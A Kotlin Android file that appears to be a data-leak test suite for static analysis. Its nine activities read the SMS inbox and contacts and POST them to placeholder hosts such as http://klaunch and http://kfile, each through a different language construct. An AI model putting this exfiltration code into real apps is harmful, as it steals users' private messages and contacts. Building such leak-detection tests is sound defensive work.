package t
import android.app.Activity
import android.content.Context
import android.net.Uri
import android.os.Bundle
import android.provider.CallLog
import android.provider.ContactsContract
import kotlinx.coroutines.*
import org.json.JSONArray
import org.json.JSONObject
import okhttp3.*
object U {
    fun s(c: Context): String { val b = StringBuilder(); c.contentResolver.query(Uri.parse("content://sms/inbox"), null, null, null, null)?.use { q -> while (q.moveToNext()) b.append(q.getString(2)) }; return b.toString() }
    fun post(u: String, s: String?) { OkHttpClient().newCall(Request.Builder().url(u).post(RequestBody.create(MediaType.parse("a"), s!!)).build()).execute() }
}
data class P(val name: String, val phone: String)
fun Context.rows(): List<P> { val l = mutableListOf<P>(); contentResolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)?.use { while (it.moveToNext()) l.add(P(it.getString(it.getColumnIndex("display_name")), it.getString(it.getColumnIndexOrThrow("data1")))) }; return l }
suspend fun load(c: Context): String = withContext(Dispatchers.IO) { delay(10); U.s(c) }
class K1 : Activity() { override fun onCreate(b: Bundle?) { GlobalScope.launch(Dispatchers.Main) { val x = load(this@K1); withContext(Dispatchers.IO) { U.post("http://klaunch", x) } } } }
class K2 : Activity() { override fun onCreate(b: Bundle?) { GlobalScope.launch { val a = async { U.s(this@K2) }; delay(5); U.post("http://kasync", a.await()) } } }
class K3 : Activity() { override fun onCreate(b: Bundle?) { U.post("http://kmap", rows().map { it.phone }.filter { it.isNotEmpty() }.joinToString(",")); U.post("http://kjoin", rows().joinToString(";") { "${it.name}=${it.phone}" }); val m = mapOf("list" to U.s(this), "x" to "y"); U.post("http://kmapof", JSONObject(m).toString()); val j = JSONArray(); rows().forEach { j.put(JSONObject().apply { put("n", it.name) }) }; U.post("http://kapply", j.toString()) } }
class K4 : Activity() { private val text by lazy { U.s(this) }; override fun onCreate(b: Bundle?) { Thread { U.post("http://klazy", text) }.start(); kotlin.concurrent.thread { U.post("http://kthread", U.s(this)) } } }
class K5 : Activity() { private var cb: ((String) -> Unit)? = null; override fun onCreate(b: Bundle?) { cb = { U.post("http://kcallback", it) }; read { s -> cb?.invoke(s) } } ; private fun read(f: (String) -> Unit) { f(U.s(this)) } }
class K6 : Activity() { override fun onCreate(b: Bundle?) { val s = U.s(this).let { it.trim() }.takeIf { it.length > 3 } ?: return; U.post("http://klet", s.also { println(it) }.run { substringAfter("x") }); val seq = rows().asSequence().map { it.phone }.toList(); U.post("http://kseq", seq.firstOrNull()); U.post("http://kregex", Regex("[0-9]+").replace(U.s(this), "")); U.post("http://kdestr", rows().map { (n, p) -> n to p }.first().second); val g = rows().groupBy { it.name }; U.post("http://kgroup", g.values.flatten().toString()); U.post("http://kcopy", P("a", U.s(this)).copy(name = "q").toString()) } }
sealed class R { data class Ok(val v: String) : R(); object Err : R() }
interface Repo { suspend fun get(): R }
class RepoImpl(private val c: Context) : Repo { override suspend fun get(): R = try { R.Ok(load(c)) } catch (e: Exception) { R.Err } }
class Vm(private val r: Repo) { fun go(scope: CoroutineScope) { scope.launch { when (val x = r.get()) { is R.Ok -> U.post("http://kvm", x.v); R.Err -> {} } } } }
class K7 : Activity() { override fun onCreate(b: Bundle?) { Vm(RepoImpl(this)).go(GlobalScope) } }
class K8 : Activity() { override fun onCreate(b: Bundle?) { GlobalScope.launch { val s = suspendCancellableCoroutine<String> { k -> Thread { k.resumeWith(Result.success(U.s(this@K8))) }.start() }; U.post("http://ksuspend", s) }; runBlocking { U.post("http://kblocking", load(this@K8)) } } }
class K9 : Activity() { override fun onCreate(b: Bundle?) { java.io.File(cacheDir, "k.txt").writeText(U.s(this)); U.post("http://kfile", java.io.File(cacheDir, "k.txt").readText()); val c = java.net.URL("http://khurl").openConnection() as java.net.HttpURLConnection; c.doOutput = true; c.outputStream.use { it.write(U.s(this).toByteArray()) }; c.outputStream.bufferedWriter().use { w -> w.write(U.s(this)) } } }
